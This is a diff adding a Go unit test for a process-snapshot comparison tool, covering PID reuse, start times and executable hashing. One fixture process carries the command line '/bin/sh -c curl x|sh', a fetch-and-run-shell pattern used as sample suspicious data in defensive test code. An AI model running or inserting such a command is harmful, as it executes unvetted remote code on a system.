@@ -276,3 +276,25 @@ func TestTamperedMarksEveryLine(t *testing.T) {
 		t.Errorf("%d entries, want 2", n)
 	}
 }
+
+func TestProcessPIDReusedUnhashed(t *testing.T) {
+	// The pid of an exited process went to another run of the same
+	// program (a respawned worker): the start time tells them apart, and
+	// so does the command line when no executable was hashed.
+	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd, cron} })
+	respawned := sshd
+	respawned.Start = at(45)
+	other := Process{PID: 200, PPID: 1, Name: "cron", Start: at(1), Argv: argv("/bin/sh", "-c", "curl x|sh"), Exe: "/usr/sbin/cron"}
+	unhashed := cron
+	unhashed.ExeSHA256 = ""
+	new := snap(func(s *Snapshot) { s.Processes = []Process{respawned, other} })
+	wantEntries(t, sectionOf(t, Compare(old, new), SectionProcesses),
+		"- pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:00:00Z)",
+		"- pid 200 /usr/sbin/cron -f (started 2026-03-01T08:01:00Z)",
+		"+ pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:45:00Z)",
+		"+ pid 200 /bin/sh -c curl x|sh (started 2026-03-01T08:01:00Z)")
+	// The same process, hashed in OLD only, is one process, changed.
+	new = snap(func(s *Snapshot) { s.Processes = []Process{sshd, unhashed} })
+	sec := sectionOf(t, Compare(old, new), SectionProcesses)
+	wantEntries(t, sec, "~ pid 200 /usr/sbin/cron -f (started 2026-03-01T08:01:00Z)")
+}
